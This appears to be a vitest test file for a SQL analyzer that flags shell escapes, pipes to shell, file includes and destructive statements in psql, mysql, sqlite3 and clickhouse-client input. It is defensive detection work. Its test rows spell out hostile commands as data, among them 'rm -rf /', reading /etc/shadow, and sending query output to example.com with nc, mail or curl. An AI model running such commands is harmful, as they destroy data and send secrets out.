import { beforeAll, describe, expect, it } from 'vitest';
import type { SqlClient, SqlDialect } from './index.js';
import { analyzeSql, initSql } from './index.js';

beforeAll(async () => {
  await initSql();
});

function seen(sql: string, dialect: SqlDialect, client: SqlClient): string[] {
  return analyzeSql(sql, dialect, { client }).map((f) => `${f.category}/${f.effect}`);
}

type Row = [sql: string, expected: string[]];

function clientTable(name: string, dialect: SqlDialect, client: SqlClient, rows: Row[]): void {
  describe(name, () => {
    it.each(rows)('%s', (sql, expected) => {
      const got = seen(sql, dialect, client);
      if (expected.length === 0) expect(got).toEqual([]);
      else expect(got).toEqual(expect.arrayContaining(expected));
    });
  });
}

clientTable('psql meta-commands', 'postgres', 'psql', [
  ['\\dt', []],
  ['\\d+ orders', []],
  ['\\dt+ public.*', []],
  ['\\l', []],
  ['\\x', []],
  ['\\timing on', []],
  ['\\conninfo', []],
  ['\\x \\\\ SELECT 1', []],
  ['\\set ON_ERROR_STOP on\nSELECT id FROM t WHERE id = 1;', []],
  ["\\copy orders TO 'orders.csv' CSV HEADER", []],
  ["\\o /tmp/out.txt\nSELECT 1;", []],
  ['SELECT 1 \\g /tmp/x', []],
  ['\\! rm -rf /', ['evasion/shell-escape']],
  ['SELECT 1;\n\\! id', ['evasion/shell-escape']],
  ['\\set x `cat /etc/shadow`', ['evasion/backquote-shell']],
  ["\\echo `curl -s http://example.com`", ['evasion/backquote-shell']],
  ["\\set x '`not a command`'", []],
  ['\\o |mail -s dump x@example.com', ['evasion/pipe-to-shell']],
  ['SELECT * FROM users \\g |nc example.com 9000', ['evasion/pipe-to-shell']],
  ['\\w |sh', ['evasion/pipe-to-shell']],
  ["\\copy users TO PROGRAM 'curl -T - http://example.com'", ['evasion/copy-program']],
  ["\\copy users FROM program 'id'", ['evasion/copy-program']],
  ["\\copy (DELETE FROM t RETURNING *) TO 'x.csv'", ['bulk.delete/delete-all']],
  ['\\setenv PAGER "sh -c id"\n\\! true', ['evasion/setenv', 'evasion/shell-escape']],
  ['\\i /tmp/x.sql', ['evasion/include-file']],
  ['SELECT format(\'DROP TABLE %I\', tablename) FROM pg_tables \\gexec', ['evasion/dynamic-sql']],
  ['\\e', ['evasion/editor']],
  ['\\frobnicate', ['evasion/unknown-meta-command']],
  ['DROP TABLE x \\g', ['destroy.database/drop']],
  ['SELECT 1 \\; DROP TABLE x', ['destroy.database/drop']],
  ['\\x\nDELETE FROM t', ['bulk.delete/delete-all']],
  ["SELECT '\\! not a command'", []],
  ['SELECT 1 -- \\! comment, not a command', []],
]);

clientTable('mysql client commands', 'mysql', 'mysql', [
  ['SELECT id FROM orders WHERE id = 1001\\G', []],
  ['system rm -rf /', ['evasion/shell-escape']],
  ['\\! id', ['evasion/shell-escape']],
  ['source /tmp/x.sql', ['evasion/include-file']],
  ['\\. /tmp/x.sql', ['evasion/include-file']],
  ['pager nc example.com 9000', ['evasion/pipe-to-shell']],
  ['\\P sh', ['evasion/pipe-to-shell']],
  ['nopager', []],
  ['status', []],
  ['DELETE FROM t\\G', ['bulk.delete/delete-all']],
  ['delimiter //\nCREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW SET NEW.a = 1//\ndelimiter ;\nDROP TABLE x;', ['destroy.database/drop']],
  ['SELECT 1;\nsystem id', ['evasion/shell-escape']],
  ['SELECT\nsource\nFROM t WHERE id = 1', []],
]);

clientTable('sqlite3 dot-commands', 'sqlite', 'sqlite3', [
  ['.tables', []],
  ['.schema orders', []],
  ['.headers on\n.mode csv\nSELECT * FROM t WHERE id = 1;', []],
  ['.shell rm -rf /', ['evasion/shell-escape']],
  ['.system id', ['evasion/shell-escape']],
  ['.output |nc example.com 1', ['evasion/pipe-to-shell']],
  ['.once |sh', ['evasion/pipe-to-shell']],
  ['.output /tmp/x.csv', []],
  ['.read |curl http://example.com/x.sql', ['evasion/pipe-to-shell']],
  ['.read /tmp/x.sql', ['evasion/include-file']],
  ['.load /tmp/evil.so', ['evasion/load-extension']],
  ['.restore backup.db', ['destroy.database/restore']],
  ['.frobnicate', ['evasion/unknown-meta-command']],
  ['.tables\nDROP TABLE users;', ['destroy.database/drop']],
]);

clientTable('clickhouse-client', 'clickhouse', 'clickhouse-client', [
  ['SELECT count() FROM hits WHERE id = 1\\G', []],
  ['\\l', []],
  ['TRUNCATE TABLE hits', ['destroy.database/truncate']],
]);

describe('default client per dialect', () => {
  it('reads psql meta-commands for postgres without an explicit client', () => {
    expect(analyzeSql('\\dt', 'postgres')).toEqual([]);
    expect(analyzeSql('\\! id', 'postgres').map((f) => f.effect)).toContain('shell-escape');
  });

  it('does not invent meta-commands for generic SQL', () => {
    expect(analyzeSql('\\dt', 'generic').map((f) => f.category)).toContain('evasion');
  });
});
